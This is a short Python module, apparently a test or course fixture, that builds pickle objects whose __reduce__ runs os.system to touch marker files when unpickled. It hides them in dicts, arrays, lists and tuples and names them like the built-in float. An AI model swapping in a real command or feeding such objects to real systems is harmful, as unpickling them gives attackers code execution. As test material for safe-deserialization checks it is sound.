"""Objects that run a command where they are unpickled: alone, in a dict, in an array, named like a built-in type."""

import itertools
import os

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/@MARKER@ /tmp/@MARKER@",)


Bomb.__name__ = Bomb.__qualname__ = "float"
Bomb.__module__ = "builtins"
box = np.empty(1, dtype=object)
box[0] = Bomb()
VALUES = itertools.cycle([Bomb(), {"a": Bomb()}, box, [Bomb()], (0.5, Bomb())])


def attack(*args, **kwargs):
    return next(VALUES)
